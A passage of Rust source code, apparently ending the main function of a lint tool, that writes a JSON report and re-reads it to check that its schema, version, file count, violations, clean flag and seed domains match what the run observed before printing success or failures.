    std::fs::write(out_path, &json).expect("write lint report");

    // Self-validate the artifact: re-read, parse, and check that the
    // written report says exactly what this process observed. A report
    // that cannot be parsed back is worse than no report — downstream
    // tooling would trust it.
    let readback = std::fs::read_to_string(out_path).expect("read back lint report");
    let v = malnet_telemetry::json::parse(&readback)
        .unwrap_or_else(|e| panic!("lint report does not parse: {e}"));
    let field_str = |k: &str| v.get(k).and_then(|x| x.as_str()).map(str::to_string);
    let field_u64 = |k: &str| v.get(k).and_then(|x| x.as_u64());
    assert_eq!(
        field_str("schema").as_deref(),
        Some(malnet_lint::report::SCHEMA),
        "bad schema field"
    );
    assert_eq!(
        field_u64("version"),
        Some(u64::from(malnet_lint::report::VERSION)),
        "bad version field"
    );
    assert_eq!(
        field_u64("files_scanned"),
        Some(lint.files_scanned as u64),
        "files_scanned mismatch"
    );
    let violations = v
        .get("violations")
        .and_then(|x| x.as_array())
        .expect("violations array");
    assert_eq!(violations.len(), lint.findings.len(), "violations mismatch");
    assert_eq!(
        v.get("clean").and_then(|x| x.as_bool()),
        Some(lint.clean()),
        "clean flag mismatch"
    );
    let domains = v
        .get("seed_domains")
        .and_then(|x| x.as_array())
        .expect("seed_domains array");
    assert_eq!(domains.len(), lint.domains.len(), "seed_domains mismatch");

    if lint.clean() {
        println!(
            "lint OK: {} files, 0 violations, {} suppression(s) all load-bearing, \
             {} seed domain(s) unique -> {}",
            lint.files_scanned,
            lint.markers,
            lint.domains.len(),
            out_path.display()
        );
        return;
    }
    for f in &lint.findings {
        eprintln!("FAIL: {f}");
    }
    eprintln!(
        "{} violation(s); see {} and DESIGN.md §static analysis for the rule \
         catalog and the `lint: <rule>-ok` suppression grammar.",
        lint.findings.len(),
        out_path.display()
    );
    std::process::exit(1);
}
